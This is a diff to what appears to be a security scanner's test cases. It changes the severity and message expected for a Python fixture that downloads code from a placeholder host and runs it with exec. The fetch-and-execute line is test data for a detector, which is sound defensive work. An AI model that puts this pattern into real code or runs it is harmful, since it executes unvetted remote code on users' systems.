@@ -34,7 +34,7 @@ export const RUNNING_CASES: RuleCases = {
       {
         path: 'scripts/a.py',
         text: 'exec(urllib.request.urlopen("https://x.example.org/p").read())',
-        found: [['high', 1, 1, 'executes downloaded code: "exec(urllib.request.urlopen"']],
+        found: [['critical', 1, 1, 'executes downloaded text']],
       },
       {
         path: 'scripts/a.sh',
